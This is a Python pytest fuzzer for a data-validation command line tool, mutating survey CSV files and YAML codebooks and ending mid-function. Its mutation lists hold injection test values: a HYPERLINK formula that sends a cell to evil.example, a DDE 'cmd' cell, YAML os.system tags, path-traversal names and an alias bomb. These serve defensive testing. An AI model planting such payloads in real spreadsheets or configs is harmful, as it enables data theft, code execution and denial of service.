"""Bounded, seeded mutation fuzzer of `connlab validate`: bad input never gives a traceback.

What it does: four valid seed data sets are made in code (a person survey with dyads, Likert
items of an instrument, an attention check, a duration and text; a two-table couples diary; a
Qualtrics-like export; a cp1252, semicolon-separated, decimal-comma file with a forced
``format``). Each case takes one seed and mutates it with a plain ``random.Random`` seeded from
(CONNLAB_FUZZ_SEED, case number), so any case can be made again on its own:

* data cases (2/3 of them) mutate the bytes of a data file: flipped, inserted and deleted bytes;
  quotes, separators, CR, LF, NUL, BOMs, cp1252 bytes 0x80-0x9f, invalid UTF-8, Unicode line
  breaks; truncation, duplicated lines, CRLF/CR line ends, UTF-16, binary magic numbers; and cell
  by cell: huge numbers (``"1" * 400``, 2**63, 2**64, -2**63-1, 1e-400, 1e400, nan, inf), formula
  cells (``=HYPERLINK``), blank/duplicate/swapped header names, extra and missing fields, blank
  rows, long text. Some data cases run without a codebook (types inferred) or name the folder.
* codebook cases mutate the codebook: values of the wrong type (``file: 5``, ``values: [[1]]``,
  ``range: "a"``, ``type: bogus``, ``exclusions: 5``), deep nesting, anchors and aliases (shared,
  self-referencing, an alias bomb), ``!!python/object`` and other tags, path-like names
  (``dataset: ../../x``, table names, ``file:``), bad ``format`` entries, broken YAML bytes.

Each case runs ``main(["validate", "--data", ..., "--codebook", ...])`` in-process, sometimes with
``--strict`` and/or ``--write DIR`` (or ``--write`` with no folder, with the default processed
folder moved into the temporary folder), and asserts:

* the exit code is 0, 1 or 2 (3 is an internal error: a bug), no exception escapes ``main`` and
  no output holds "Traceback";
* exit 2: stderr is one line "connlab validate: error: ..." of at most 600 characters that names
  the file (an input file or folder, a file the codebook names, or the output folder written to);
* exit 0/1: the report ends with the row ledger; exit 0 says "No problems", exit 1 lists them;
  for every table the ledger numbers the rows read 1..n, each analysed or excluded (with a known
  reason), rows read = analysed + excluded, the report's ledger line says the same, the table
  holds exactly the analysed rows, the reader's row count agrees, the data records of a text file
  counted with the csv module are the rows read, and the ledger's line and id of each row are the
  file's (strict mode: the ledger of the ValidationError, checked against a lenient load);
* nothing is written outside the output folder (``--write``), input files are unchanged, the
  output is not much larger than the input, and no case takes more than 10 s (30 s: stopped).

Failures are collected and reported once at the end, grouped by kind (exception type and the
function of ``analysis`` it was raised in), with each failing case's mutations, exit code and
first 300 characters of output. The inputs of failing cases are written to a folder (the test's
tmp_path, or CONNLAB_FUZZ_OUT) with a README holding the command to run.

Case n is a codebook case when n % 3 == 2, else a data case; what it does depends only on
(CONNLAB_FUZZ_SEED, n), not on how many cases run.

Knobs (environment): CONNLAB_FUZZ_CASES (cases 0..N-1; default 250, 11-20 s on 2 cores at
45-80 ms a case, nearly all of it `connlab validate` itself), CONNLAB_FUZZ_SEED (default 20240611),
CONNLAB_FUZZ_CASE=17 or =17,44 (run only these cases and print their argv, mutations, full
output and traceback), CONNLAB_FUZZ_OUT (write the failing inputs to this folder).

Reproduce case 17:  CONNLAB_FUZZ_CASE=17 .venv/bin/pytest tests/test_fuzz.py::test_fuzz_validate -s
(add CONNLAB_FUZZ_SEED=... if the failing run set it; the failure message prints the command).
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import os
import re
import shutil
import signal
import time
import traceback
import warnings
from collections import Counter
from dataclasses import dataclass, field, replace
from pathlib import Path
from random import Random

import pandas as pd
import pytest
import yaml

import analysis.data.dataset as dataset_module
from analysis.data.ledger import EXCLUSION_REASONS
from analysis.data.validate import ValidationError
from analysis.paths import PROCESSED_DIR
from analysis.runner.cli import main

DEFAULT_CASES = 250
DEFAULT_SEED = 20240611
CASE_TIMEOUT = 30.0  # seconds: the case is stopped (a hang is a failure)
SLOW_CASE = 10.0  # seconds: a failure (a case normally takes ~30 ms)
MAX_MESSAGE = 600  # characters of an exit-2 message
HEAD = 300  # characters of output shown per failing case

# --------------------------------------------------------------------------------------- seeds


@dataclass
class Seed:
    """A valid data set: its files as rows of cells, the --data file and the codebook."""

    name: str
    tables: dict[str, list[list[str]]]  # file name -> rows (header first)
    main: str  # the file passed as --data
    codebook: dict
    sep: str = ","
    encoding: str = "utf-8"
    newline: str = "\n"


def _item(kind: str, **more) -> dict:
    return {"type": kind, **more}


def _survey_seed() -> Seed:
    items = [f"ecr_s_{i}" for i in range(1, 13)]
    header = ["person_id", "couple_id", "partner", "age", "gender", *items, "attn", "duration_sec", "happy",
              "country", "note"]  # fmt: skip
    rows = [header]
    for k in range(12):
        answers = [str((k * 5 + i * 3) % 7 + 1) for i in range(1, 13)]
        rows.append([str(101 + k), str(1 + k // 2), str(1 + k % 2), str(22 + (k * 7) % 40), str(1 + k % 3), *answers,
                     "3", f"{300 + k * 37.5}", ["yes", "no"][k % 2], ["CH", "DE", "FR", "NA"][k % 4],
                     ["", "likes hiking", "Zürich, Bern", "ok"][k % 4]])  # fmt: skip
    variables = {
        "person_id": _item("integer", role="id"),
        "couple_id": _item("integer", role="dyad_id"),
        "partner": _item("integer", role="partner_role", values=[1, 2]),
        "age": _item("integer", role="demographic", range=[18, 100], missing_codes=[-99, {"range": [998, 999]}]),
        "gender": _item("categorical", role="demographic", values=[1, 2, 3],
                        value_labels={1: "man", 2: "woman", 3: "other"}, label="Gender"),
        **{c: _item("integer", role="item", instrument="ecr_s", item=str(i), range=[1, 7])
           for i, c in enumerate(items, start=1)},
        "attn": _item("integer", role="attention_check", correct=3),
        "duration_sec": _item("number", role="duration"),
        "happy": _item("boolean", role="outcome"),
        "country": _item("categorical", role="demographic", values=["CH", "DE", "FR", "NA"], na_values=["n/a"]),
        "note": _item("string", role="other"),
    }  # fmt: skip
    codebook = {"dataset": "fuzz_survey", "title": "Fuzz survey", "simulated": False, "tables": {"survey": {
        "file": "survey.csv", "unit": "person", "variables": variables,
        "exclusions": {"attention_check": True, "duplicate_id": "keep_first", "max_missing_items": 0.5,
                       "min_duration": 120, "straight_lining": 10, "complete_dyads": True}}}}  # fmt: skip
    return Seed("survey", {"survey.csv": rows}, "survey.csv", codebook)


def _diary_seed() -> Seed:
    persons = [["person_id", "couple_id", "partner", "age"]]
    diary = [["person_id", "couple_id", "partner", "day", "mood", "close", "note"]]
    for p in range(1, 5):
        persons.append([str(p), str(1 + (p - 1) // 2), str(1 + (p - 1) % 2), str(30 + p)])
        for d in range(1, 4):
            mood = str(1 + ((p * 3 + d * 2) % 13) / 2)
            diary.append([str(p), str(1 + (p - 1) // 2), str(1 + (p - 1) % 2), str(d), mood, str((p + d) % 5 + 1),
                          ["", "good day", "tired"][d - 1]])  # fmt: skip
    ids = {"person_id": _item("integer", role="id"), "couple_id": _item("integer", role="dyad_id"),
           "partner": _item("integer", role="partner_role", values=[1, 2])}  # fmt: skip
    codebook = {"dataset": "fuzz_diary", "title": "Fuzz diary", "tables": {
        "persons": {"file": "persons.csv", "unit": "person",
                    "variables": {**ids, "age": _item("integer", range=[18, 100], missing_codes=[-99])}},
        "diary": {"file": "diary.csv", "unit": "person-day", "variables": {
            **copy.deepcopy(ids), "day": _item("integer", role="day", range=[1, 14]),
            "mood": _item("number", role="daily", range=[1, 7]),
            "close": _item("integer", role="item", instrument="closeness", item="1", range=[1, 5]),
            "note": _item("string", role="other")},
            "exclusions": {"duplicate_id": "keep_first", "complete_dyads": True}}}}  # fmt: skip
    return Seed("diary", {"persons.csv": persons, "diary.csv": diary}, "diary.csv", codebook)


def _qualtrics_seed() -> Seed:
    meta = ["StartDate", "EndDate", "Status", "IPAddress", "Progress", "Duration (in seconds)", "Finished",
            "RecordedDate", "ResponseId", "RecipientEmail", "LocationLatitude"]  # fmt: skip
    questions = ["Q1", "Q2_1", "Q2_2", "Q2_3", "Q3"]
    texts = ["How satisfied are you?", "I feel close - 1", "I feel close - 2", "I feel close - 3", "Comments?"]
    rows = [meta + questions, [m.replace("Id", " Id") for m in meta] + texts,
            [f'{{"ImportId":"{c}"}}' for c in meta + ["QID1", "QID2_1", "QID2_2", "QID2_3", "QID3_TEXT"]]]
    for k in range(6):
        rows.append([f"2024-05-0{k + 1} 10:00:00", f"2024-05-0{k + 1} 10:1{k}:00", "0", f"203.0.113.{k}", "100",
                     str(400 + 31 * k), "1", f"2024-05-0{k + 1} 10:1{k}:01", f"R_{k:03d}abcXYZ",
                     f"p{k}@example.org", "47.37", str(1 + k), str(1 + k % 5), str(1 + (k + 2) % 5),
                     str(1 + (k + 4) % 5), ["", "fine", "call me at 079"][k % 3]])  # fmt: skip
    variables = {
        "ResponseId": _item("string", role="id"),
        "Duration (in seconds)": _item("number", role="duration"),
        "Progress": _item("integer", role="metadata", range=[0, 100]),
        "Finished": _item("boolean", role="metadata"),
        "Q1": _item("integer", role="outcome", range=[1, 7], label="Satisfaction"),
        **{f"Q2_{i}": _item("integer", role="item", instrument="q2", item=str(i), range=[1, 5]) for i in (1, 2, 3)},
        "Q3": _item("string", role="free_text"),
    }  # fmt: skip
    codebook = {"dataset": "fuzz_qualtrics", "title": "Fuzz Qualtrics export", "tables": {"survey": {
        "file": "qualtrics.csv", "variables": variables,
        "exclusions": {"min_duration": 30, "max_missing_items": 0.5}}}}  # fmt: skip
    return Seed("qualtrics", {"qualtrics.csv": rows}, "qualtrics.csv", codebook)


def _ville_seed() -> Seed:
    rows = [["person_id", "ville", "score", "weight"]]
    for k, town in enumerate(["Zürich", "Besançon", "São Paulo", "Málaga", "Köln"]):
        rows.append([str(k + 1), town, f"{3 + k},{5 * (k % 2)}", f"0,{82 + k}"])
    codebook = {"dataset": "fuzz_ville", "title": "Fuzz cp1252", "tables": {"towns": {
        "file": "ville.csv", "format": {"encoding": "cp1252", "sep": ";", "decimal": ","},
        "variables": {"person_id": _item("integer", role="id"), "ville": _item("string", role="demographic"),
                      "score": _item("number", role="outcome", range=[0, 10]),
                      "weight": _item("number")}}}}  # fmt: skip
    return Seed("ville", {"ville.csv": rows}, "ville.csv", codebook, sep=";", encoding="cp1252", newline="\r\n")


SEEDS = [_survey_seed(), _diary_seed(), _qualtrics_seed(), _ville_seed()]


def _encode_rows(rows: list[list[str]], seed: Seed, *, quoted: bool = True) -> bytes:
    """The rows as CSV in the seed's encoding: quoted where needed, or (quoted=False) cells joined as they are."""
    if quoted:
        buf = io.StringIO()
        writer = csv.writer(buf, delimiter=seed.sep, lineterminator=seed.newline)
        for row in rows:
            writer.writerow(row)
        text = buf.getvalue()
    else:
        text = "".join(seed.sep.join(row) + seed.newline for row in rows)
    errors = "surrogateescape" if seed.encoding == "utf-8" else "replace"
    return text.encode(seed.encoding, errors=errors)


def _codebook_text(spec) -> str:
    return yaml.safe_dump(spec, sort_keys=False, allow_unicode=True, width=1000)


# ----------------------------------------------------------------------------- data mutations
HUGE = ["1" * 400, str(2**63), str(2**64), str(-(2**63) - 1), "1e-400", "1e400", "-1e400", "nan", "NaN", "inf",
        "-inf", "Infinity", "9" * 20, "1e5", "0x10", "1_000"]  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "=1+1", "+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1", "\r=1"]  # fmt: skip
ODD = ["", " ", "  7  ", "NA", "N/A", "null", "None", "-99", "998", "1,5", "1.5", "3.", ".5", "+3", "--3", "0", "-0",
       "007", "True", "yes", "١٢", "３", "\u00a04", "4\u200b", "½", "é", "Zürich", "a,b", "a;b", '"', '""', "'", "\\",
       "\t", "\r", "\n", "\r\n", "\x00", "\x85", "\u2028", "\ufeff", "🙂", "\udcff", "x" * 5000]  # fmt: skip
CELL_VALUES = HUGE + FORMULAS + ODD
HEADER_VALUES = ["", " ", "person_id", " person_id ", "PERSON_ID", "email", "Phone", "IPAddress", "a,b", '"', "=cmd",
                 "x" * 300, "\ufeffperson_id", "0", "nan", "Unnamed: 0", "\x00"]  # fmt: skip
TOKENS = [b'"', b",", b";", b"\t", b"|", b"\r", b"\n", b"\r\n", b"\x00", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff",
          b"\x85", b"\x81", b"\x8d", b"\x9d", b"\xc3\x28", b"\xff", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82",
          b"\xc2\x85", b"\xe2\x80\xa8", b"\x0b", b"\x0c", b"\x1c", b"\x1a", b" ", b"sep=;\n", b'"unclosed', b"\\",
          b"'"]  # fmt: skip
MAGIC = [b"PK\x03\x04", b"$FL2", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<stata_dta>", b"\x71\x02\x01\x00"]


def _pick_row(rng: Random, rows, *, body: bool = True) -> int:
    if len(rows) < 2 or not body:
        return rng.randrange(len(rows)) if rows else 0
    return rng.randrange(1, len(rows))


def _rows_mutation(rng: Random, rows: list[list[str]]) -> str:
    """Mutate the rows of a file in place; return what was done."""
    op = rng.choices(["cell", "huge", "formula", "blank_header", "swap_header", "rename_header", "dup_header",
                      "extra_field", "missing_field", "dup_row", "del_row", "drop_column", "add_column", "blank_row",
                      "sep_only_row", "only_header", "no_header", "long_cell", "sep_hint", "many_rows"],
                     weights=[10, 6, 3, 2, 2, 3, 2, 3, 3, 3, 2, 2, 2, 2, 2, 1, 1, 1, 1, 1])[0]  # fmt: skip
    if not rows:
        rows.append(["x"])
        return "empty file given one cell"
    header = rows[0]
    if op in ("cell", "huge", "formula", "long_cell"):
        r = _pick_row(rng, rows)
        if not rows[r]:
            rows[r].append("")
        c = rng.randrange(len(rows[r]))
        pool = {"cell": CELL_VALUES, "huge": HUGE, "formula": FORMULAS, "long_cell": ["y" * 60_000]}[op]
        value = rng.choice(pool)
        rows[r][c] = value
        name = header[c] if c < len(header) else c
        more = f"... ({len(value)} chars)" if len(value) > 40 else ""
        return f"cell(row {r}, column {name!r}) = {value[:40]!r}{more}"
    if op in ("blank_header", "rename_header"):
        c = rng.randrange(len(header))
        old, header[c] = header[c], "" if op == "blank_header" else rng.choice(HEADER_VALUES)
        return f"header {old!r} -> {header[c][:40]!r}"
    if op == "swap_header" and len(header) > 1:
        a, b = rng.sample(range(len(header)), 2)
        header[a], header[b] = header[b], header[a]
        return f"swap headers {header[b]!r} <-> {header[a]!r}"
    if op == "dup_header" and len(header) > 1:
        a, b = rng.sample(range(len(header)), 2)
        old, header[a] = header[a], header[b]
        return f"header {old!r} -> duplicate {header[b]!r}"
    if op == "extra_field":
        r = _pick_row(rng, rows, body=rng.random() < 0.8)
        rows[r].append(rng.choice(["", "extra", "1"]))
        return f"extra field on row {r}"
    if op == "missing_field":
        r = _pick_row(rng, rows, body=rng.random() < 0.8)
        if rows[r]:
            rows[r].pop(rng.randrange(len(rows[r])))
        return f"missing field on row {r}"
    if op == "dup_row":
        r = _pick_row(rng, rows)
        rows.insert(r, list(rows[r]))
        return f"duplicate row {r}"
    if op == "del_row" and len(rows) > 1:
        r = _pick_row(rng, rows)
        rows.pop(r)
        return f"delete row {r}"
    if op == "drop_column" and len(header) > 1:
        c = rng.randrange(len(header))
        name = header[c]
        for row in rows:
            if c < len(row):
                row.pop(c)
        return f"drop column {name!r}"
    if op == "add_column":
        name = rng.choice(["Email", "phone", "extra", "note2", "", "person_id"])
        value = rng.choice(["a@b.org", "1", "", "=1+1"])
        for i, row in enumerate(rows):
            row.append(name if i == 0 else value)
        return f"add column {name!r} = {value!r}"
    if op == "blank_row":
        r = _pick_row(rng, rows)
        blank = rng.choice([[], ["   "], [""]])
        rows.insert(r, blank)
        return f"blank row {blank!r} before row {r}"
    if op == "sep_only_row":
        r = _pick_row(rng, rows)
        rows.insert(r, [""] * len(header))
        return f"row of empty fields before row {r}"
    if op == "only_header":
        del rows[1:]
        return "header only"
    if op == "no_header":
        rows.pop(0)
        return "no header row"
    if op == "sep_hint":
        rows.insert(0, [rng.choice(["sep=;", "sep=,", "sep=|", "SEP=\t", "sep="])])
        return f"Excel hint line {rows[0][0]!r}"
    if op == "many_rows":
        body = rows[1:] or [[""]]
        times = rng.choice([20, 100, 400])
        rows[1:] = body * times
        return f"body repeated {times} times"
    return "no-op"


def _byte_mutation(rng: Random, data: bytes) -> tuple[bytes, str]:
    op = rng.choices(["flip", "set", "insert", "insert", "delete", "truncate", "dup_line", "del_line", "crlf",
                      "cr_only", "bom", "utf16", "magic", "blank", "cp1252"],
                     weights=[4, 3, 8, 8, 3, 3, 3, 2, 2, 2, 1, 1, 1, 1, 2])[0]  # fmt: skip
    n = len(data)
    pos = rng.randrange(n + 1)
    if op == "flip" and n:
        pos = min(pos, n - 1)
        bit = rng.randrange(8)
        return data[:pos] + bytes([data[pos] ^ (1 << bit)]) + data[pos + 1 :], f"flip bit {bit} of byte {pos}"
    if op == "set" and n:
        pos, value = min(pos, n - 1), rng.randrange(256)
        return data[:pos] + bytes([value]) + data[pos + 1 :], f"byte {pos} = {value:#04x}"
    if op == "insert":
        token = rng.choice(TOKENS)
        return data[:pos] + token + data[pos:], f"insert {token!r} at {pos}"
    if op == "cp1252":
        token = bytes([rng.randrange(0x80, 0xA0)])
        return data[:pos] + token + data[pos:], f"insert cp1252 byte {token!r} at {pos}"
    if op == "delete":
        k = rng.randint(1, 16)
        return data[:pos] + data[pos + k :], f"delete {k} bytes at {pos}"
    if op == "truncate":
        return data[:pos], f"truncate at {pos} of {n}"
    lines = data.split(b"\n")
    if op == "dup_line":
        i = rng.randrange(len(lines))
        return b"\n".join(lines[: i + 1] + lines[i:]), f"duplicate line {i + 1}"
    if op == "del_line" and len(lines) > 1:
        i = rng.randrange(len(lines))
        return b"\n".join(lines[:i] + lines[i + 1 :]), f"delete line {i + 1}"
    if op == "crlf":
        return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), "CRLF line ends"
    if op == "cr_only":
        return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r"), "CR-only line ends"
    if op == "bom":
        return b"\xef\xbb\xbf" + data, "UTF-8 BOM"
    if op == "utf16":
        enc = rng.choice(["utf-16", "utf-16-le", "utf-16-be"])
        return data.decode("utf-8", "replace").encode(enc), f"re-encoded as {enc}"
    if op == "magic":
        magic = rng.choice(MAGIC)
        return magic + data, f"magic prefix {magic!r}"
    if op == "blank":
        blank = rng.choice([b"", b"\n\n\n", b"   \r\n", b"\xef\xbb\xbf", b","])
        return blank, f"whole file = {blank!r}"
    return data, "no-op"


# ------------------------------------------------------------------------- codebook mutations
def _nested(depth: int):
    value: object = 1
    for _ in range(depth):
        value = [value]
    return value


WEIRD = [5, -1, 0, 1.5, 2**63, 2**64, -(2**63) - 1, float("inf"), float("-inf"), float("nan"), 1e-400, True, False,
         None, "", "a", "bogus", "1" * 400, [[1]], [], {}, {"a": 1}, [1, 2, 3], [1, "a"], [None], ["1", "2"],
         "../../x", "x" * 3000, _nested(40), "Zürich\u2028x", "a\x00b", FORMULAS[0], "\n",
         {"range": [1, "a"]}]  # fmt: skip
KEYS = ["range", "values", "missing_codes", "na_values", "correct", "keep", "format", "exclusions", "ordered",
        "value_labels", "label", "instrument", "item", "partner", "type", "role", "file", "variables",
        "unit"]  # fmt: skip
RAW_VALUES = ['!!python/object/apply:os.system ["true"]', "!!python/name:os.system", "!!binary aGVsbG8=",
              "!!set {a, b}", "!!omap [a: 1, b: 2]", "!!timestamp 2001-12-14", "2001-12-14", "1.0e+400", "-.inf",
              ".nan", "0x1F", "0o17", "1_000", "0b101", "08", "~", '"a\\0b"', '"\\x85\\u2028"', "&self [*self]",
              "*undefined", "yes", "off", "Null", "!!str 5", "!!int abc", "!!float x", "[1, [2, [3]]]",
              "{a: {b: {c: d}}}", "? complex", "|\n  multi\n  line", ">-\n  folded", "'", '"', "[", "{",
              "&a 5", "!custom 5", "!!map {}", "@reserved", "`reserved", "%directive"]  # fmt: skip


def _paths(node, prefix=()):
    """Every path (tuple of keys) to a node of a codebook, containers included, cycles cut."""
    yield prefix
    if len(prefix) > 12:
        return
    if isinstance(node, dict):
        for k, v in list(node.items()):
            yield from _paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _paths(v, (*prefix, i))


def _get(node, path):
    for k in path:
        node = node[k]
    return node


def _rename_key(mapping: dict, old, new) -> None:
    items = [(new if k == old else k, v) for k, v in mapping.items()]
    mapping.clear()
    mapping.update(items)


def _spec_mutation(rng: Random, spec: dict, case_dir: Path) -> tuple[str, bool]:
    """Mutate a codebook (a dict) in place; return what was done and whether to write to the default folder."""
    op = rng.choices(["leaf", "delete", "rename", "add", "share", "recursive", "table_file", "table_name",
                      "dataset", "type", "exclusions", "format", "codes"],
                     weights=[10, 4, 3, 5, 2, 1, 3, 2, 2, 3, 3, 3, 3])[0]  # fmt: skip
    paths = [p for p in _paths(spec) if p]
    tables = spec.get("tables") if isinstance(spec.get("tables"), dict) else {}
    tname = rng.choice(list(tables)) if tables else None
    table = tables.get(tname) if isinstance(tables.get(tname), dict) else {}
    variables = table.get("variables") if isinstance(table.get("variables"), dict) else {}
    var = rng.choice(list(variables)) if variables else None
    escape_abs = str(case_dir / "escaped_abs")
    if op == "leaf" and paths:
        path = rng.choice(paths)
        value = copy.deepcopy(rng.choice(WEIRD))
        _get(spec, path[:-1])[path[-1]] = value
        return f"set {'.'.join(map(str, path))} = {_short(value)}", False
    if op == "delete" and paths:
        path = rng.choice(paths)
        parent = _get(spec, path[:-1])
        del parent[path[-1]]
        return f"delete {'.'.join(map(str, path))}", False
    if op == "rename" and paths:
        dict_paths = [p for p in paths if isinstance(_get(spec, p[:-1]), dict)]
        path = rng.choice(dict_paths)
        new = rng.choice([5, None, "", "1" * 400, " person_id", "PERSON_ID", "a\x00b", True, "../../x"])
        parent = _get(spec, path[:-1])
        if new not in parent:
            _rename_key(parent, path[-1], new)
        return f"rename key {'.'.join(map(str, path))} -> {_short(new)}", False
    if op == "add":
        dicts = [p for p in [(), *paths] if isinstance(_get(spec, p), dict)]
        path = rng.choice(dicts)
        key = rng.choice(KEYS)
        value = copy.deepcopy(rng.choice(WEIRD))
        _get(spec, path)[key] = value
        return f"add {'.'.join(map(str, (*path, key)))} = {_short(value)}", False
    if op == "share" and len(paths) > 1:
        a, b = rng.sample(paths, 2)
        if a[: len(b)] != b and b[: len(a)] != a:  # neither inside the other
            _get(spec, a[:-1])[a[-1]] = _get(spec, b)
            return f"alias {'.'.join(map(str, a))} = *{'.'.join(map(str, b))}", False
    if op == "recursive" and var is not None:
        loop: list = []
        loop.append(loop)
        key = rng.choice(["values", "missing_codes", "correct", "range", "label", "value_labels", "na_values"])
        variables[var] = dict(variables[var]) if isinstance(variables[var], dict) else {"type": "integer"}
        variables[var][key] = loop
        return f"self-referencing list (&a [*a]) as {tname}.{var}.{key}", False
    if op == "table_file" and table:
        value = rng.choice([5, None, "", ".", "..", "../../x", escape_abs, "a\x00b", [1], "persons.csv", "x.sav",
                            "no_such.csv", "sub/dir/"])  # fmt: skip
        table["file"] = value
        return f"tables.{tname}.file = {_short(value)}", False
    if op == "table_name" and tname is not None:
        new = rng.choice(["../escape_t", "../../escape_t", "../../../escape_t", escape_abs, "", "a/b", "..", ".",
                          5, "con", "x" * 300, "sp ace", "a\nb"])  # fmt: skip
        if new not in tables:
            _rename_key(tables, tname, new)
        return f"rename table {tname!r} -> {_short(new)}", True
    if op == "dataset":
        value = rng.choice(["../../x", "../../../x", escape_abs, "", ".", "..", 5, [1], {"a": 1}, "a/b", "x" * 300,
                            None, "a\x00b"])  # fmt: skip
        spec["dataset"] = value
        return f"dataset = {_short(value)}", True
    if op == "type" and var is not None:
        key = rng.choice(["type", "role"])
        value = rng.choice(["bogus", ["integer"], "Integer", None, 5, "string", "number", "boolean", "categorical",
                            "id", "pii", "free_text", "day", "item"])  # fmt: skip
        if isinstance(variables[var], dict):
            variables[var][key] = value
        else:
            variables[var] = {key: value}
        return f"{tname}.{var}.{key} = {_short(value)}", False
    if op == "exclusions" and table:
        value = rng.choice([5, [], "yes", {"min_duration": "300"}, {"straight_lining": 2**64},
                            {"straight_lining": 2}, {"max_missing_items": 1.0}, {"max_missing_items": 0},
                            {"complete_dyads": True}, {"attention_check": True}, {"duplicate_id": "exclude_all"},
                            {"min_duration": float("inf")}, {"min_duration": 2**64}, {"bogus_rule": 1},
                            {"duplicate_id": None}])  # fmt: skip
        table["exclusions"] = value
        return f"tables.{tname}.exclusions = {_short(value)}", False
    if op == "format" and table:
        value = rng.choice([{"sheet": 5}, {"encoding": "utf-16"}, {"encoding": "bogus"}, {"encoding": 5},
                            {"sep": ""}, {"sep": ";;"}, {"sep": 5}, {"sep": '"'}, {"sep": "\n"}, {"decimal": ","},
                            {"decimal": 5}, {"kind": "xlsx"}, {"kind": 5}, {"kind": [1]}, [], "csv",
                            {"encoding": "utf-8", "sep": ","}, {"encoding": "ascii"}, {"sep": "\t"},
                            {"encoding": None, "sep": None}])  # fmt: skip
        table["format"] = value
        return f"tables.{tname}.format = {_short(value)}", False
    if op == "codes" and var is not None:
        key, value = rng.choice([("missing_codes", [{"range": [5, 1]}]),
                                 ("missing_codes", [{"range": [float("nan"), 1]}]),
                                 ("missing_codes", [[1]]), ("missing_codes", ["", " "]),
                                 ("missing_codes", [float("inf")]),
                                 ("missing_codes", [2**64]), ("missing_codes", [{"range": [1, 2], "x": 1}]),
                                 ("correct", [[1]]), ("correct", {"a": 1}), ("correct", "3"), ("correct", float("nan")),
                                 ("values", [[1]]), ("values", [{"a": 1}]), ("values", []), ("values", [1, "a"]),
                                 ("values", [float("nan")]), ("value_labels", 5), ("value_labels", [[1]]),
                                 ("value_labels", {1: {"a": "b"}}), ("na_values", [None]), ("na_values", [[1]]),
                                 ("range", "a"), ("range", [1]), ("range", [float("nan"), 5]),
                                 ("range", [-(2**64), 2**64]),
                                 ("range", [True, 5]), ("label", ["a"]), ("ordered", "yes"), ("keep", "yes"),
                                 ("keep", True), ("partner", [1]), ("item", [1]), ("instrument", 5),
                                 ("instrument", "../../x")])  # fmt: skip
        if isinstance(variables[var], dict):
            variables[var][key] = copy.deepcopy(value)
        return f"{tname}.{var}.{key} = {_short(value)}", False
    return "no-op", False


_VALUE_LINE = re.compile(r"^([ ]*(?:- )?[^\s#-][^:\n]*:[ ]+)(\S.*)$", re.MULTILINE)


def _text_mutation(rng: Random, text: str) -> tuple[str, str]:
    """Mutate a codebook's YAML text; return it and what was done."""
    op = rng.choices(["raw", "bomb", "deep", "tab", "dup_line", "del_line", "document", "bytes"],
                     weights=[10, 2, 2, 1, 2, 2, 2, 6])[0]  # fmt: skip
    lines = _VALUE_LINE.findall(text)
    if op in ("raw", "bomb", "deep") and lines:
        matches = list(_VALUE_LINE.finditer(text))
        m = rng.choice(matches)
        if op == "raw":
            value = rng.choice(RAW_VALUES)
            what = f"value of {m.group(1).strip()!r} -> {value!r}"
        elif op == "deep":
            depth = rng.choice([200, 1000, 5000])
            value = rng.choice(["[" * depth + "]" * depth, "{a: " * depth + "1" + "}" * depth])
            what = f"value of {m.group(1).strip()!r} -> nested {depth} deep"
        else:
            levels = rng.choice([4, 6])
            bomb = "b0: &b0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
                f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 10)}]\n" for i in range(1, levels + 1))
            value = f"*b{levels}"
            text = bomb + text
            m = rng.choice(list(_VALUE_LINE.finditer(text, len(bomb))))
            what = f"alias bomb 10**{levels + 1} as value of {m.group(1).strip()!r}"
        return text[: m.start(2)] + value + text[m.end(2) :], what
    lines = text.split("\n")
    i = rng.randrange(len(lines))
    if op == "tab":
        lines[i] = "\t" + lines[i].lstrip(" ")
        return "\n".join(lines), f"tab-indented line {i + 1}"
    if op == "dup_line":
        return "\n".join(lines[: i + 1] + lines[i:]), f"duplicate line {i + 1} ({lines[i].strip()[:30]!r})"
    if op == "del_line":
        return "\n".join(lines[:i] + lines[i + 1 :]), f"delete line {i + 1} ({lines[i].strip()[:30]!r})"
    if op == "document":
        doc = rng.choice(["", "null", "[]", "5", "tables: 5", "tables: {}", "tables: [a]", "---\na: 1\n---\nb: 2\n",
                          '!!python/object/apply:os.system ["true"]', "%YAML 9.9\n---\n" + text, "tables:\n  t: 5\n",
                          "tables:\n  t: {file: x.csv, variables: 5}\n", "\t" + text])  # fmt: skip
        return doc, f"whole document -> {doc[:40]!r}"
    return text, "no-op (bytes below)"


def _short(value) -> str:
    text = repr(value)
    return text if len(text) <= 60 else text[:57] + "..."


# ----------------------------------------------------------------------------------- the cases
@dataclass
class Case:
    number: int
    kind: str  # "data" or "codebook"
    seed: str
    mutations: list[str]
    files: dict[str, bytes]  # name in the input folder -> bytes
    data: str  # name passed to --data ("" = the input folder)
    codebook: str | None  # name passed to --codebook (None: not passed)
    strict: bool
    write: str | None  # None, "dir" (--write OUT) or "default" (--write, default folder)
    table_files: list[str] = field(default_factory=list)  # file names the codebook's tables name


def _kind(number: int) -> str:
    """Two data cases, then a codebook case (a case's kind does not depend on the number of cases)."""
    return "codebook" if number % 3 == 2 else "data"


def make_case(number: int, seed_value: int, case_dir: Path) -> Case:
    """Case `number`: the same (seed, number) always gives the same case."""
    rng = Random(f"connlab-fuzz:{seed_value}:{number}")
    seed = rng.choice(SEEDS)
    spec = copy.deepcopy(seed.codebook)
    rows = {name: copy.deepcopy(r) for name, r in seed.tables.items()}
    mutations: list[str] = []
    kind = _kind(number)
    data_name, cb_name = seed.main, f"{Path(seed.main).stem}.cb.yaml"
    write = rng.choices([None, "dir", "default"], weights=[62, 30, 8])[0]
    strict = rng.random() < 0.3
    invocation = "file"
    encoded: dict[str, bytes] = {}
    cb_bytes: bytes | None = None
    if kind == "data":
        target = seed.main if rng.random() < 0.8 else rng.choice(list(rows))
        n_rows, n_bytes = rng.choice([0, 1, 1, 2]), rng.choice([0, 0, 1, 1, 2])
        if n_rows + n_bytes == 0:
            n_bytes = 1
        for _ in range(n_rows):
